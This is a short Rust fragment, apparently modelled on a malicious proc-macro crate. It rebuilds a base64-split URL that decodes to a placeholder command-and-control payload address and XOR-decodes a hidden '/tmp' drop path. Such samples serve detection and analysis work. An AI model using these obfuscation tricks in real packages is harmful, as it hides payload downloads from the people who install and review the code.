// Modelled on proc-macro1 (2026): a URL rebuilt from base64 fragments, and a path XORed.
use base64::Engine;

fn endpoint() -> String {
    let parts = [
        "aHR0cHM6", "Ly9jMi5l", "eGFtcGxl", "LmludmFs", "aWQvcGF5", "bG9hZA==",
    ];
    let bytes = base64::engine::general_purpose::STANDARD.decode(parts.concat()).unwrap();
    String::from_utf8(bytes).unwrap()
}

fn path() -> String {
    let data = [0x75, 0x2e, 0x37, 0x2a, 0x75, 0x74, 0x39, 0x3b, 0x39, 0x32, 0x3f, 0x77, 0x3b, 0x3d, 0x3f, 0x34, 0x2e];
    data.iter().map(|b| (b ^ 0x5a) as char).collect()
}
